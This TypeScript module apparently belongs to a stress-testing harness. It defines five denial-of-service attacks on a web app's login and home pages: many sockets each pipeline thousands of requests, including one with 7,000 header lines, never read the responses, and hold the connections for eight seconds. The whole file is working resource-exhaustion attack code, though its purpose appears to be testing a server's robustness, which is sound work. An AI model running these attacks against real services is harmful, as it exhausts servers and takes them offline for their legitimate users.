import type { Attack, Target } from "./attack";
import { formHeaders, headOf, holdAndCut, openSockets, writeAll } from "./wires";

/** Many requests on one connection, whose responses nobody reads. */

const HOLD_MS = 8_000;

async function pipelined(target: Target, connections: number, requests: number, request: string): Promise<string[]> {
  const sockets = await openSockets(target, connections);
  const bytes = Buffer.from(request.repeat(requests));
  for (const socket of sockets) {
    socket.pause();
    void writeAll(socket, bytes, HOLD_MS);
  }
  await holdAndCut(sockets, HOLD_MS);
  return [];
}

/** Without a token. */
const loginForm = (target: Target) =>
  `${headOf(target, "POST /Login", { ...formHeaders(target), "Content-Length": 3 })}a=1`;

/** As many header lines as fit into what node:http reads of a head: each becomes two texts. */
const manyLines = (target: Target) => `${headOf(target, "GET /Login").trimEnd()}\r\n${"a:\r\n".repeat(7_000)}\r\n`;

export const PIPELINING: readonly Attack[] = [
  {
    name: "pipelined-posts",
    item: "4",
    sent: "4 connections with 5,000 POST /Login each, never read",
    prepare: (target) => Promise.resolve(() => pipelined(target, 4, 5_000, loginForm(target))),
  },
  {
    name: "pipelined-posts-wide",
    item: "4",
    sent: "400 connections with 50 POST /Login each, never read",
    prepare: (target) => Promise.resolve(() => pipelined(target, 400, 50, loginForm(target))),
  },
  {
    name: "pipelined-pages",
    item: "4",
    sent: "4 connections with 5,000 GET /Login each, never read",
    prepare: (target) => Promise.resolve(() => pipelined(target, 4, 5_000, headOf(target, "GET /Login"))),
  },
  {
    name: "pipelined-cached-pages",
    item: "4",
    sent: "40 connections with 500 GET /Index/Home each, never read",
    prepare: (target) => Promise.resolve(() => pipelined(target, 40, 500, headOf(target, "GET /Index/Home"))),
  },
  {
    name: "pipelined-heads",
    item: "4",
    sent: "400 connections with 5 GET /Login of 7,000 header lines each, never read",
    prepare: (target) => Promise.resolve(() => pipelined(target, 400, 5, manyLines(target))),
  },
];
